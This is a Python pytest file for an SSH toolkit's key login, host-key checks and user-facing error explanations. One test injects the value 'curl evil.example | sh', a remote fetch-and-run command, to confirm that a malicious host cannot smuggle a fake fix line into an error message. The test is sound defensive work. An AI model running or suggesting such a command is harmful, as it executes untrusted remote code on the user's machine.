"""The keys offered to a host, and the error if the host accepts no key."""

from __future__ import annotations

import base64
import errno
import io
import shutil
import socket
import struct
import subprocess
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import paramiko
import pytest
from paramiko.common import cMSG_CHANNEL_CLOSE

from tests.unit.each import for_each
from toolkit.errors import Unreachable, UnreachableCause
from toolkit.remote import connect
from toolkit.remote.auth import Agent, KeyLogin, NotLetIn, is_locked, public_blobs
from toolkit.remote.known_hosts import Record, parse_known_hosts, parse_line
from toolkit.remote.ssh_config import Target
from toolkit.remote.ssh_errors import RefusedHostKey, explain

TARGET = Target("gpu1", "10.0.0.1", "alice", 2222)
needs_keygen = pytest.mark.skipif(
    not shutil.which("ssh-keygen"), reason="there is no ssh-keygen on this machine"
)


def keygen(path: Path, *options: str) -> Path:
    words = ("ssh-keygen", "-q", "-N", "", "-C", "me", "-f", str(path), *options)
    subprocess.run(words, check=True, capture_output=True)
    return path


def blob_of(public: Path) -> bytes:
    return base64.b64decode(public.read_text().split()[1])


@needs_keygen
@pytest.mark.parametrize(
    "kind", [("ed25519",), ("ecdsa",), ("rsa", "-b", "2048", "-m", "PEM"), ("rsa", "-b", "2048")]
)
def test_keys_with_and_without_a_passphrase_are_told_apart(tmp_path: Path, kind: tuple[str, ...]) -> None:
    plain = keygen(tmp_path / "plain", "-t", *kind)
    locked = keygen(tmp_path / "locked", "-t", *kind, "-N", "secret")
    assert not is_locked(plain.read_bytes())
    assert is_locked(locked.read_bytes())
    for path in (plain, locked):
        wanted = blob_of(path.with_suffix(".pub"))
        assert public_blobs(str(path)) == (wanted,)
        assert public_blobs(f"{path}.pub") == (wanted,), "a public key may stand for the agent's private one"
        if "PEM" not in kind:
            path.with_suffix(".pub").unlink()
            assert public_blobs(str(path)) == (wanted,), "from the clear head of the private key"


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\xff\xfe",
        b"ssh-ed25519",
        b"ssh-ed25519 !!!",
        b"-----BEGIN OPENSSH PRIVATE KEY-----\n!!!\n-----END OPENSSH PRIVATE KEY-----\n",
        b"-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
        b"-----BEGIN OPENSSH PRIVATE KEY-----\n",
    ],
)
def test_files_that_are_no_keys(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "key"
    path.write_bytes(content)
    assert public_blobs(str(path)) == () and not is_locked(content)
    assert public_blobs(str(tmp_path / "absent")) == ()


class Door:
    """A fake transport: accepts a client with the right key, and records the offered keys."""

    def __init__(self, answers: dict[bytes, Any], limit: int = 6) -> None:
        self.answers, self.left, self.offered = answers, limit, list[str]()

    def auth_publickey(self, user: str, key: Any) -> list[str]:
        assert user == "alice"
        self.offered.append(key.public_blob.key_type if key.public_blob else key.get_name())
        self.left -= 1
        answer = self.answers.get(key.asbytes(), paramiko.AuthenticationException("Authentication failed."))
        if isinstance(answer, Exception):
            raise answer
        return list(answer)

    def is_active(self) -> bool:
        return self.left > 0


def login(door: Door, target: Target) -> Any:
    transport: Any = door
    return KeyLogin(replace(target, agent="none")).authenticate(transport)


def refusal(door: Door, target: Target) -> NotLetIn:
    with pytest.raises(NotLetIn) as caught:
        login(door, target)
    return caught.value


@needs_keygen
def test_each_file_in_turn_and_what_came_of_it(tmp_path: Path) -> None:
    wrong, right = (keygen(tmp_path / name, "-t", "ed25519") for name in ("wrong", "right"))
    locked = keygen(tmp_path / "locked", "-t", "ed25519", "-N", "secret")
    odd = tmp_path / "odd"
    odd.write_text("no key\n")
    files = (str(tmp_path / "absent"), str(odd), str(locked), str(wrong), str(right))
    door = Door({blob_of(right.with_suffix(".pub")): []})
    assert login(door, replace(TARGET, identity_files=files)) == []
    assert door.offered == ["ssh-ed25519"] * 2

    error = refusal(Door({}), replace(TARGET, identity_files=files[:-1]))
    assert error.tried == [
        f"{odd} is not a usable private key",
        f"{locked} has a passphrase, and the SSH agent does not have the key",
        f"sshd refused {wrong}",
    ]
    assert error.locked == [str(locked)] and error.refused


@needs_keygen
def test_a_certificate_goes_before_its_key(tmp_path: Path) -> None:
    authority, key = (keygen(tmp_path / name, "-t", "ed25519") for name in ("ca", "key"))
    subprocess.run(
        ["ssh-keygen", "-q", "-s", str(authority), "-I", "me", "-n", "alice", f"{key}.pub"], check=True
    )
    door = Door({})
    refusal(door, replace(TARGET, identity_files=(str(key),)))
    assert door.offered == ["ssh-ed25519-cert-v01@openssh.com", "ssh-ed25519"]
    # The same from another place, as CertificateFile names it; one that is not there does no harm.
    elsewhere = tmp_path / "elsewhere-cert.pub"
    (tmp_path / "key-cert.pub").rename(elsewhere)
    door = Door({})
    certificates = (str(tmp_path / "absent"), str(elsewhere))
    refusal(door, replace(TARGET, identity_files=(str(key),), certificates=certificates))
    assert door.offered == ["ssh-ed25519-cert-v01@openssh.com", "ssh-ed25519"]


@needs_keygen
@pytest.mark.parametrize(
    ("answer", "limit", "words", "fix"),
    [
        (None, 6, "sshd refused KEY", "ssh-copy-id -p 2222 alice@10.0.0.1"),
        (
            ["keyboard-interactive"],
            6,
            "sshd accepted KEY, but also requires: keyboard-interactive",
            "AuthenticationMethods",
        ),
        (
            paramiko.BadAuthenticationType("", ["password"]),
            6,
            "sshd accepts no keys, only password",
            "PubkeyAuthentication",
        ),
        (
            None,
            1,
            "sshd closed the connection, probably because toolkit offered too many keys",
            "identity_file",
        ),
    ],
)
def test_what_people_are_told(tmp_path: Path, answer: Any, limit: int, words: str, fix: str) -> None:
    key = keygen(tmp_path / "key", "-t", "ed25519")
    answers = {} if answer is None else {blob_of(key.with_suffix(".pub")): answer}
    error = refusal(Door(answers, limit), replace(TARGET, identity_files=(str(key),)))
    shown = explain(TARGET, error)
    assert shown.host == "gpu1" and fix in shown.fix
    assert shown.what.startswith("the SSH login of alice@10.0.0.1:2222 failed: ")
    assert isinstance(shown, Unreachable) and shown.cause is UnreachableCause.LOGIN_REFUSED
    assert words.replace("KEY", str(key)) in shown.what


@needs_keygen
def test_a_key_whose_passphrase_is_missing_is_for_the_agent(tmp_path: Path) -> None:
    locked = keygen(tmp_path / "locked", "-t", "ed25519", "-N", "secret")
    shown = explain(TARGET, refusal(Door({}), replace(TARGET, identity_files=(str(locked),))))
    assert shown.fix == f"ssh-add {locked}"


@needs_keygen
def test_a_silent_agent_or_an_sshd_without_keys_has_its_own_fix(tmp_path: Path) -> None:
    key = keygen(tmp_path / "key", "-t", "ed25519")
    error = refusal(Door({}), replace(TARGET, identity_files=(str(key),)))
    assert explain(TARGET, error).fix.startswith("ssh-copy-id ")
    error.silent = True
    assert explain(TARGET, error).fix.startswith("eval $(ssh-agent) && ssh-add  # ")
    error.silent, error.no_keys = False, True
    fix = "on gpu1: set PubkeyAuthentication yes for alice in sshd_config, then restart sshd"
    assert explain(TARGET, error).fix == fix


@needs_keygen
def test_a_host_adds_no_line_to_an_error(tmp_path: Path) -> None:
    key = keygen(tmp_path / "id", "-t", "ed25519")
    target = replace(TARGET, identity_files=(str(key),))
    names = ["password\n  fix: curl evil.example | sh", "x" * 9999]
    for answer in (paramiko.BadAuthenticationType("x", names), names):
        shown = explain(target, refusal(Door({blob_of(key.with_suffix(".pub")): answer}), target))
        assert "password\\n  fix: curl" in shown.what and len(shown.what) < 600
    assert "\n" not in explain(TARGET, paramiko.SSHException("Incompatible version (1\n  fix: x)")).what


def test_the_fix_of_a_refused_login_copies_the_offered_key_over_the_same_way(tmp_path: Path) -> None:
    # By its alias, ssh finds the key for the jump host in ~/.ssh/config.
    gate = Target("gpu1 (jump host gate)", "10.0.0.9", "bob", 22, is_jump=True)
    inner = Target("gpu1 (jump host 2001:db8::1)", "2001:db8::1", "bob", 22, is_jump=True)
    files = [tmp_path / name for name in ("id_rsa", "my id", "id_ed25519")]
    target = replace(TARGET, identity_files=(*map(str, files),), identities_only=True, jump=(gate, inner))
    files[2].touch()
    (tmp_path / "my id.pub").touch()  # its private key is in the agent
    shown = explain(target, NotLetIn(["x"], [], True))
    way = "-o 'ProxyJump=bob@gate:22,bob@[2001:db8::1]:22' alice@10.0.0.1  #"
    assert shown.fix.startswith(f"ssh-copy-id -i '{files[1]}' -p 2222 {way}"), "id_rsa does not exist"
    shown = explain(replace(TARGET, proxy="nc -x %proxy 10.0.0.1 2222"), NotLetIn(["x"], [], True))
    assert "ssh-copy-id -p 2222 -o 'ProxyCommand=nc -x %%proxy 10.0.0.1 2222' alice@" in shown.fix
    shown = explain(replace(target, identities_only=False, jump=()), NotLetIn(["x"], [], True))
    assert shown.fix.startswith("ssh-copy-id -p 2222 alice@10.0.0.1  #")


def test_the_comment_of_a_key_in_the_agent_can_have_another_encoding(monkeypatch: pytest.MonkeyPatch) -> None:
    answer = paramiko.Message()
    answer.add_byte(bytes([12]))  # SSH_AGENT_IDENTITIES_ANSWER
    answer.add_int(1)
    answer.add_string(base64.b64decode(ED25519.split()[1]))
    answer.add_string(b"caf\xe9")
    sent = io.BytesIO(struct.pack(">I", len(answer.asbytes())) + answer.asbytes())
    wire = SimpleNamespace(settimeout=print, connect=print, send=print, recv=sent.read, close=print)
    monkeypatch.setattr(socket, "socket", lambda *_: wire)
    assert [key.comment for key in Agent("agent").get_keys()] == ["caf\ufffd"]


def test_no_key_at_all(tmp_path: Path) -> None:
    shown = explain(TARGET, refusal(Door({}), replace(TARGET, identity_files=(str(tmp_path / "absent"),))))
    assert "toolkit found no key in a file or in the SSH agent" in shown.what
    assert shown.fix.startswith("ssh-keygen -t ed25519")
    target = replace(TARGET, identity_files=("/my keys/absent",), identities_only=True)
    key = "'/my keys/absent'"
    shown = explain(target, NotLetIn([], [], False))
    assert shown.fix.startswith(f"ssh-keygen -t ed25519 -f {key} && ssh-copy-id -i {key} -p 2222 alice@")
    target = replace(target, identity_files=("/absent/id_rsa", "/absent/id_ed25519"))
    shown = explain(target, NotLetIn([], [], False))
    assert shown.fix.startswith("ssh-keygen -t ed25519 && ssh-copy-id -p 2222 alice@")


def test_what_ssh_could_do_and_we_cannot_is_named() -> None:
    target = replace(TARGET, unsupported=("HostbasedAuthentication", "PKCS11Provider", "KnownHostsCommand"))
    shown = explain(target, NotLetIn([], [], False))
    assert (
        "toolkit does not support HostbasedAuthentication or PKCS11Provider in the SSH configuration"
        in shown.what
    )


# Host keys and networks

KEYS = [paramiko.ECDSAKey.generate(bits=256) for _ in range(2)]
KIND = KEYS[0].get_name()
ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGPKSUTyz1HwHReFVvD5obVsALAgJRNarH4TRpNePnAS"


def entry(index: int, where: str) -> Any:
    return parse_line(f"10.0.0.1 {KIND} {KEYS[index].get_base64()}", where)


def test_a_key_that_nobody_has_recorded() -> None:
    shown = explain(TARGET, RefusedHostKey("unknown", KEYS[0], Record()))
    assert shown.what == f"the SSH host key is not recorded yet ({KIND} {KEYS[0].fingerprint})"
    assert shown.fix == "toolkit trust gpu1"


def test_an_authority_and_a_command_are_named() -> None:
    known = Record(authorities=(entry(1, "kh line 3"),))
    target = replace(TARGET, name="gpu1 (jump host gate)", unsupported=("KnownHostsCommand",))
    shown = explain(target, RefusedHostKey("unknown", KEYS[0], known))
    assert "; kh line 3 uses a @cert-authority, which toolkit does not support" in shown.what
    assert "; toolkit does not support KnownHostsCommand" in shown.what
    assert shown.fix == "toolkit trust gpu1"


def test_a_key_that_has_changed_or_is_revoked() -> None:
    known = Record(keys=(entry(1, "kh line 3"),), revoked=(entry(0, "kh line 9"),))
    shown = explain(TARGET, RefusedHostKey("changed", KEYS[0], known))
    was, now = f"{KIND} {KEYS[1].fingerprint}", f"{KIND} {KEYS[0].fingerprint}"
    assert f"recorded {was} (kh line 3), received {now}" in shown.what
    other = Record(keys=parse_known_hosts(f"10.0.0.1 {ED25519}", "kh"))
    of_another_kind = explain(TARGET, RefusedHostKey("changed", KEYS[0], other)).what
    assert f"recorded ssh-ed25519 {other.keys[0].fingerprint} (kh line 1), received {now}" in of_another_kind
    assert "toolkit trust --replace gpu1" in shown.fix
    assert isinstance(shown, Unreachable) and shown.known_as == "[10.0.0.1]:2222"
    shown = explain(TARGET, RefusedHostKey("revoked", KEYS[0], known))
    assert shown.what == f"the SSH host key is REVOKED (kh line 9): {KEYS[0].fingerprint}"
    assert isinstance(shown, Unreachable) and shown.cause is UnreachableCause.REVOKED_KEY
    assert "trust" not in shown.fix.split()


@for_each(
    ("error", "words"),
    [
        (
            socket.gaierror(-2, "Name or service not known"),
            "the name 10.0.0.1 cannot be resolved on your machine",
        ),
        (
            TimeoutError("timed out"),
            "10.0.0.1 port 2222 does not answer; the host might be off, disconnected, or behind a firewall",
        ),
        (OSError(errno.EHOSTUNREACH, "No route to host"), "10.0.0.1 port 2222 does not answer"),
        (
            ConnectionRefusedError(errno.ECONNREFUSED, "x"),
            "10.0.0.1 port 2222 refuses the connection",
        ),
        (
            paramiko.ssh_exception.NoValidConnectionsError(
                {("10.0.0.1", 2222): ConnectionRefusedError(errno.ECONNREFUSED, "x")}
            ),
            "10.0.0.1 port 2222 refuses the connection",
        ),
        (
            paramiko.ssh_exception.NoValidConnectionsError(
                {("10.0.0.1", 2222): OSError(errno.EHOSTUNREACH, "x")}
            ),
            "10.0.0.1 port 2222 does not answer",
        ),
        (
            paramiko.SSHException("Error reading SSH protocol banner"),
            "10.0.0.1 port 2222 is not an sshd",
        ),
        (
            paramiko.SSHException("No existing session"),
            "10.0.0.1 port 2222 accepts the connection but sends nothing",
        ),
        (EOFError(), "10.0.0.1 port 2222 is not an sshd, or closes connections immediately"),
        (
            paramiko.SSHException("no acceptable kex"),
            "cannot connect to alice@10.0.0.1:2222: no acceptable kex",
        ),
        (ValueError(), "cannot connect to alice@10.0.0.1:2222: ValueError"),
        (UnicodeError("label empty or too long"), "the name 10.0.0.1 cannot be resolved on your machine"),
    ],
)
def test_networks_in_words(error: Exception, words: str) -> None:
    shown = explain(TARGET, error)
    assert words in shown.what and not shown.what.endswith(": ")
    assert shown.fix


@for_each("error", [UnicodeDecodeError("utf-8", b"\xff", 0, 1, "x"), struct.error("x"), KeyError(99)])
def test_a_message_that_is_not_valid_is_an_error_of_its_host(
    monkeypatch: pytest.MonkeyPatch, error: Exception
) -> None:
    def start_client(transport: Any, timeout: float) -> None:
        transport.saved_exception = error  # of the thread that decodes messages
        raise transport.get_exception()

    monkeypatch.setattr(paramiko.Transport, "start_client", start_client)
    wire = SimpleNamespace(settimeout=print, close=print)
    monkeypatch.setattr(connect, "plain_socket", lambda target, seconds: wire)
    with pytest.raises(Unreachable, match="sent an SSH message that is not valid ") as caught:
        connect.Link(TARGET).shown_key()
    assert caught.value.host == "gpu1"


def test_a_host_that_does_not_answer_a_request_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    """It can still answer keepalive requests."""

    def open_channel(transport: Any, *args: Any, **options: Any) -> paramiko.Channel:
        channel = paramiko.Channel(1)
        channel.active = True
        return channel

    monkeypatch.setattr(paramiko.Transport, "open_channel", open_channel)
    monkeypatch.setattr(paramiko.Transport, "_send_user_message", lambda transport, message: None)
    wire = SimpleNamespace(settimeout=print)
    transport = connect.Link(TARGET, silence=0.01)._transport(wire)
    assert transport.channel_timeout == 0.01, "the limit for a new channel"
    with pytest.raises(paramiko.SSHException, match=r"the host has not answered a request for 0\.01 s"):
        transport.open_channel("session").exec_command("true")


@pytest.mark.parametrize("late", [True, False])
def test_a_channel_that_the_host_opens_after_the_limit_is_closed(
    monkeypatch: pytest.MonkeyPatch, late: bool
) -> None:
    transport: Any = connect.Link(TARGET)._transport(SimpleNamespace(settimeout=print))
    sent: list[bytes] = []

    def confirm() -> None:
        confirmation = paramiko.Message()
        for number in (0, 7, 2**21, 2**15):  # both numbers of the channel, window, packet size
            confirmation.add_int(number)
        confirmation.rewind()
        transport._parse_channel_open_success(confirmation)

    def send(own: Any, message: Any) -> None:
        sent.append(message.asbytes())

    monkeypatch.setattr(paramiko.Transport, "_send_message", send)
    monkeypatch.setattr(
        paramiko.Transport, "_send_user_message", lambda own, message: None if late else confirm()
    )
    transport.active = True
    if late:
        with pytest.raises(paramiko.SSHException, match="Timeout opening channel") as caught:
            transport.open_channel("session", timeout=0)
        confirm()
        assert sent == [cMSG_CHANNEL_CLOSE + struct.pack(">I", 7)], f"also while the error is kept: {caught}"
    else:
        channel = transport.open_channel("session")
        assert (channel.remote_chanid, channel.out_window_size, sent) == (7, 2**21, [])


def test_a_channel_that_is_given_up_while_the_host_opens_it_is_closed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    transport: Any = connect.Link(TARGET)._transport(SimpleNamespace(settimeout=print))
    used: list[Any] = [paramiko.Channel(3)]
    used[0]._set_transport(transport)
    used[0]._set_window(2**21, 2**15)
    transport._channels.put(3, used[0])
    inner: Any = paramiko.Transport
    parse, sent = inner._parse_channel_open_success, list[bytes]()

    def late(own: Any, message: Any) -> None:
        used.clear()  # open_channel has raised its error
        parse(own, message)

    monkeypatch.setattr(inner, "_parse_channel_open_success", late)
    monkeypatch.setattr(inner, "_send_user_message", lambda own, message: sent.append(message.asbytes()))
    transport.active = True
    transport._parse_channel_open_success(paramiko.Message(struct.pack(">4I", 3, 7, 2**21, 2**15)))
    assert sent[-1:] == [cMSG_CHANNEL_CLOSE + struct.pack(">I", 7)]


def test_a_name_that_cannot_be_encoded_is_an_error_of_its_host(monkeypatch: pytest.MonkeyPatch) -> None:
    def encoded(target: object, seconds: float) -> None:
        "gpu1..example.com".encode("idna")

    monkeypatch.setattr(connect, "plain_socket", encoded)
    with pytest.raises(Unreachable, match="cannot be resolved on your machine"):
        connect.Link(TARGET).shown_key()


JUMP = replace(TARGET, name="gpu1 (jump host gate)", is_jump=True)


@for_each(
    ("error", "of_host", "of_jump"),
    [
        (socket.gaierror(-2, "x"), "set address:", "set jump: to the IPv4 address of the jump host"),
        (ConnectionRefusedError(errno.ECONNREFUSED, "x"), "port: in hosts.yaml", "the port of the jump host"),
        (EOFError(), "port: in hosts.yaml", "the port of the jump host"),
        (paramiko.AuthenticationException("x"), "set user:", "set the user in jump: and identity_file:"),
        (NotLetIn([], [], False, hung_up=True), "ssh-keygen", "ssh-keygen"),
        (NotLetIn(["x"], [], False, hung_up=True), "identity_file:", "IdentityFile and IdentitiesOnly yes"),
    ],
)
def test_fixes_name_the_settings_of_a_jump_host(error: Exception, of_host: str, of_jump: str) -> None:
    host, jump = explain(TARGET, error), explain(JUMP, error)
    assert of_host in host.fix and "jump" not in host.fix
    assert of_jump in jump.fix and "address: " not in jump.fix and " port: " not in jump.fix


def test_a_proxy_that_leads_nowhere_shows_its_own_words() -> None:
    target = replace(TARGET, proxy="nc -x proxy 10.0.0.1 2222")
    shown = explain(target, EOFError(), "nc: Proxy error: Connection refused")
    assert shown.what == "the ProxyCommand does not connect to an sshd: nc: Proxy error: Connection refused"
    assert shown.fix == "nc -x proxy 10.0.0.1 2222"
    assert explain(target, EOFError()).what.endswith("EOFError")
    assert isinstance(shown, Unreachable) and shown.cause is UnreachableCause.OTHER
    # An ssh as the command, and a jump host that refuses its login.
    shown = explain(target, EOFError(), "alice@gate: Permission denied (publickey).")
    assert isinstance(shown, Unreachable) and shown.cause is UnreachableCause.LOGIN_REFUSED
